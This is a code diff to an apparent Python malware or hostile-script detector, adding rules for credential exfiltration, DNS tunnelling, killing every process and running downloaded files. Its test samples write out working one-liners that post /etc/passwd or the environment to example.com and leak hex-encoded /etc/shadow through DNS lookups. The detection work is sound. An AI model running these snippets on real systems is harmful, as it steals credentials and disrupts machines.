@@ -135,7 +135,13 @@ EXFIL = _p(
     _H,
     "sends the environment or credentials over the network",
     "import requests, os\nrequests.post('https://example.com', json=dict(os.environ))",
-    benign=("import requests\nrequests.get('https://api.example.com/items')",),
+    "import requests\nrequests.post('https://example.com', files={'f': open('/etc/passwd', 'rb')})",
+    "import socket\nd = open('/etc/shadow').read().encode().hex()\nsocket.gethostbyname(f'{d[:60]}.example.com')",
+    benign=(
+        "import requests\nrequests.get('https://api.example.com/items')",
+        "import requests\nrequests.post('https://api.example.com/items', json={'n': 1})",
+        "import socket\nsocket.gethostbyname('example.com')",
+    ),
 )
 FORK_BOMB = _p(
     "py.fork-bomb",
@@ -167,6 +173,7 @@ KILL_ALL = _p(
     "signals every process it can",
     "os.kill(-1, 9)",
     "os.killpg(0, signal.SIGKILL)",
+    "import os\nfor entry in os.listdir('/proc'):\n    if entry.isdigit():\n        os.kill(int(entry), 9)",
     benign=("os.kill(pid, signal.SIGTERM)",),
 )
 
@@ -304,6 +311,13 @@ _PATH_WRITES = frozenset(
     }
 )
 _FORKS = frozenset({"os.fork", "os.forkpty", "pty.fork"})
+_SECRET_PLACES = (Place.CREDENTIAL, Place.PRIVILEGE, Place.HISTORY)  #: reading these and sending is exfiltration
+_PATH_FIRST = frozenset(
+    {"shutil.rmtree", "open", "io.open", "builtins.open", "os.open", "runpy.run_path", "runpy.run_module"}
+)
+_ARCHIVERS = frozenset({"add", "write", "make_archive", "copytree"})  #: tarfile, zipfile, shutil: a whole tree
+_HTTP_SENDS = frozenset({"post", "put", "patch", "request"})
+_DNS_LOOKUPS = frozenset({"socket.gethostbyname", "socket.gethostbyname_ex", "socket.getaddrinfo"})
 _SPAWNS = _ARGV_CALLS | _SHELL_CALLS | frozenset({"multiprocessing.Process"})
 _WALKERS = frozenset({"walk", "rglob", "glob", "iglob", "iterdir", "listdir", "scandir"})
 _PATH_FUNCTIONS: dict[str, Callable[[list[str]], str]] = {
@@ -372,22 +386,29 @@ class _Reader:
             self.findings.add(INTROSPECTION, node.lineno, "__builtins__")
 
     def assigned(self, name: str, value: ast.expr) -> None:
-        """``run = getattr(os, 'sys' + 'tem')``, ``rm = shutil.rmtree``: ``run`` is that function now."""
-        if isinstance(value, (ast.Attribute, ast.Call, ast.Name)):
+        """``run = getattr(os, 'sys' + 'tem')``, ``rm = shutil.rmtree``, ``fn = os.__dict__['system']``:
+        ``run``, ``rm`` and ``fn`` are those functions now."""
+        if isinstance(value, (ast.Attribute, ast.Call, ast.Name, ast.Subscript)):
             resolved = self.name_of(value)
             if resolved is not None and not resolved.endswith("()") and resolved.split(".")[0] in _SYSTEM_MODULES:
                 self.aliases[name] = resolved
 
     def loop_over(self, target: ast.expr, iterable: ast.expr) -> None:
         """``for p in Path('/etc').rglob('*')``, ``for root, _, files in os.walk('/')``: the loop
-        variable stands for a path under the one walked (its first element, for a literal list)."""
+        variable stands for a path under the one walked (its first element, for a literal list);
+        ``for p in glob.glob('/proc/*/environ')``: for a path the pattern matches."""
         calls = [n for n in ast.walk(iterable) if isinstance(n, ast.Call)]
-        walker = any((self.name_of(call.func) or "").rsplit(".", 1)[-1] in _WALKERS for call in calls)
+        walkers = {(self.name_of(call.func) or "").rsplit(".", 1)[-1] for call in calls} & _WALKERS
         texts = [text for n in ast.walk(iterable) if isinstance(n, ast.expr) and (text := _folded(self, n))]
         where = next((t for t in texts if t.startswith(("/", "~"))), texts[0] if texts else None)
         if where is None:
             return
-        value = where.rstrip("*").rstrip("/") + "/x" if walker else where
+        if walkers & {"glob", "iglob"} and "*" in where.rstrip("*"):
+            value = where.replace("*", "x")
+        elif walkers:
+            value = where.rstrip("*").rstrip("/") + "/x"
+        else:
+            value = where
         names = [target] if isinstance(target, ast.Name) else list(getattr(target, "elts", []))
         for index, name in enumerate(names):
             if isinstance(name, ast.Name) and name.id not in self.constants:
@@ -422,6 +443,8 @@ class _Reader:
             self.shell_text(node, name, line)
         elif name in _ARGV_CALLS:
             self.argv(node, name, line)
+        if _sends(self, node, name):
+            self.facts.add("send")
         if name in _FORKS and in_loop is not Loop.NONE:
             self.findings.add(FORK_BOMB, line, name)
         elif name in _SPAWNS and in_loop is Loop.FOREVER:
@@ -430,7 +453,8 @@ class _Reader:
 
     def effects(self, node: ast.Call, name: str, line: int) -> None:
         """Paths, ids, signals, environment and sockets: what a call does to the world."""
-        first = _a_path(self, node.args[0]) if node.args else None
+        first = _a_path(self, node.args[0]) if node.args and name in _PATH_FIRST else None
+        last = name.rpartition(".")[2]
         if name == "shutil.rmtree" and first is not None:
             self.delete(first, line)
         elif name in _WRITES and len(node.args) > _WRITES[name]:
@@ -446,6 +470,16 @@ class _Reader:
             self.findings.add(SETUID, line, name)
         elif name in ("os.kill", "os.killpg") and node.args and _int(node.args[0]) in (-1, 0):
             self.findings.add(KILL_ALL, line, f"{name}({_int(node.args[0])}, ...)")
+        elif name in ("os.kill", "os.killpg") and node.args and _from_proc(self, node.args[0]):
+            self.findings.add(KILL_ALL, line, f"{name} of every pid listed in /proc")
+        elif name in ("runpy.run_path", "runpy.run_module") and first is not None and first in self.downloaded:
+            self.findings.add(shell_rules.DOWNLOAD_EXEC, line, "runs the file it downloaded")
+        elif last in _ARCHIVERS and any(
+            kind(path) in _SECRET_PLACES or kind(path) is Place.HOME
+            for arg in [*node.args, *(k.value for k in node.keywords)]
+            if (path := _a_path(self, arg)) is not None
+        ):
+            self.facts.add("secret")
         elif name in ("os.dup2", "pty.spawn") or (name.endswith(".fileno") and "socket" in self.facts):
             self.facts.add("dup2" if name == "os.dup2" else "shell" if name == "pty.spawn" else "fileno")
         elif name.endswith(".open") and isinstance(node.func, ast.Attribute):
@@ -465,9 +499,9 @@ class _Reader:
         elif name in ("urllib.request.urlretrieve", "wget.download") and len(node.args) > 1:
             if (target := _folded(self, node.args[1])) is not None:
                 self.downloaded.add(target)
-        elif name.rsplit(".", 1)[-1] in _PATH_WRITES and isinstance(node.func, ast.Attribute):
+        elif last in _PATH_WRITES and isinstance(node.func, ast.Attribute):
             self.path_method(node.func, line)
-        elif name.rsplit(".", 1)[-1] in ("read_text", "read_bytes") and isinstance(node.func, ast.Attribute):
+        elif last in ("read_text", "read_bytes") and isinstance(node.func, ast.Attribute):
             target = _path_literal(self, node.func.value)
             if target is not None:
                 shell_rules.read(target, line, self.findings)
@@ -542,7 +576,7 @@ class _Reader:
             return
         if name == "pty.spawn" or (text.split() and text.split()[0].rsplit("/", 1)[-1] in shell_rules.SHELLS):
             self.facts.add("shell")
-        if text.split() and shlex.split(text)[0] in self.downloaded:
+        if self.downloaded and text.split() and shlex.split(text)[0] in self.downloaded:
             self.findings.add(shell_rules.DOWNLOAD_EXEC, line, "runs the file it downloaded")
         shell.scan(text, self.findings, line)
 
@@ -564,6 +598,8 @@ class _Reader:
             shell_rules.written(target, line, self.findings)
         else:
             shell_rules.read(target, line, self.findings)
+            if kind(target) in _SECRET_PLACES:
+                self.facts.add("secret")
 
     def chmod(self, node: ast.Call, line: int) -> None:
         mode = _int(node.args[1])
@@ -615,6 +651,8 @@ class _Reader:
             self.findings.add(REVERSE_SHELL, None, "a socket and a shell in one script")
         if "env-dump" in self.facts and "network" in self.facts:
             self.findings.add(EXFIL, None, "the environment and the network in one script")
+        elif "secret" in self.facts and "send" in self.facts:
+            self.findings.add(EXFIL, None, "reads credentials or account files and sends data out")
 
 
 _BUILTINS_KEYS = frozenset({"__builtins__", "__globals__"})
@@ -648,8 +686,12 @@ class Loop(IntEnum):
 
 
 def _walk(tree: ast.AST) -> Iterator[tuple[ast.AST, Loop]]:
-    """Every node (but the Load/Store markers), with the loop it sits in: none, one, or one that
-    never ends. Written out rather than with ``ast.iter_child_nodes``: this is the analysis's hot loop."""
+    """Every node that can matter, with the loop it sits in: none, one, or one that never ends.
+
+    Names, constants, operators and import aliases are never visited (no handler reads them on
+    their own: their parents do), nor are fields that only hold strings; half of a script's nodes
+    are of those kinds. Written out rather than with ``ast.iter_child_nodes``: this is the
+    analysis's hot loop."""
     stack: list[tuple[ast.AST, Loop]] = [(tree, Loop.NONE)]
     pop, push = stack.pop, stack.append
     while stack:
@@ -659,17 +701,38 @@ def _walk(tree: ast.AST) -> Iterator[tuple[ast.AST, Loop]]:
         if isinstance(node, (ast.While, ast.For, ast.AsyncFor)):
             forever = _truthy(node.test) if isinstance(node, ast.While) else _endless(node)
             inner = Loop.FOREVER if forever else max(in_loop, Loop.SOME)
-        for name in reversed(node._fields):
-            if name == "ctx":
-                continue
+        for name in _child_fields(type(node)):
             value = getattr(node, name, None)
             depth = inner if name == "body" else in_loop
-            if isinstance(value, list):
+            if type(value) is list:
                 for item in reversed(value):
-                    if isinstance(item, ast.AST):
+                    if type(item) not in _LEAVES and isinstance(item, ast.AST):
                         push((item, depth))
-            elif isinstance(value, ast.AST):
+            elif value is not None and type(value) not in _LEAVES and isinstance(value, ast.AST):
                 push((value, depth))
+
+
+_LEAVES = frozenset(
+    {ast.Name, ast.Constant, ast.alias}
+    | {
+        cls
+        for base in (ast.expr_context, ast.operator, ast.unaryop, ast.cmpop, ast.boolop)
+        for cls in base.__subclasses__()
+    }
+)
+_SCALAR_FIELDS = frozenset({"ctx", "op", "ops", "id", "attr", "arg", "name", "names", "kind", "level", "module"})
+_SCALAR_FIELDS |= {"type_comment", "conversion", "is_async", "lineno", "col_offset"}
+
+
+_CHILD_FIELDS: dict[type[ast.AST], tuple[str, ...]] = {}
+
+
+def _child_fields(cls: type[ast.AST]) -> tuple[str, ...]:
+    """The fields of a node type that can hold nodes, last first (the stack pops them in order)."""
+    fields = _CHILD_FIELDS.get(cls)
+    if fields is None:
+        fields = _CHILD_FIELDS[cls] = tuple(name for name in reversed(cls._fields) if name not in _SCALAR_FIELDS)
+    return fields
 
 
 def _namespace_of(reader: _Reader, node: ast.expr) -> str | None:
@@ -693,6 +756,27 @@ def _endless(node: ast.For | ast.AsyncFor) -> bool:
         func = ast.unparse(node.iter.func)
         return func in ("iter", "itertools.count", "count", "itertools.repeat", "itertools.cycle")
     return False
+
+
+def _sends(reader: _Reader, node: ast.Call, name: str) -> bool:
+    """A call that sends data out: an HTTP body, a DNS name built at run time, a socket write, mail."""
+    top, last = name.split(".", 1)[0], name.rsplit(".", 1)[-1]
+    if top in ("requests", "httpx", "aiohttp", "urllib3") and last in _HTTP_SENDS:
+        return True
+    if name in ("urllib.request.urlopen", "urllib.request.Request"):
+        return len(node.args) > 1 or any(k.arg == "data" for k in node.keywords)
+    if name in _DNS_LOOKUPS:
+        return bool(node.args) and _folded(reader, node.args[0]) is None
+    if last in ("send", "sendall", "sendto") and "socket" in reader.facts:
+        return True
+    return last in ("sendmail", "send_message", "storbinary", "storlines")
+
+
+def _from_proc(reader: _Reader, pid: ast.expr) -> bool:
+    """``int(entry)`` where ``entry`` walks ``os.listdir('/proc')``: every process there is."""
+    return any(
+        isinstance(node, ast.Name) and (_folded(reader, node) or "").startswith("/proc/") for node in ast.walk(pid)
+    )
 
 
 def _keyword(node: ast.Call, name: str) -> object:
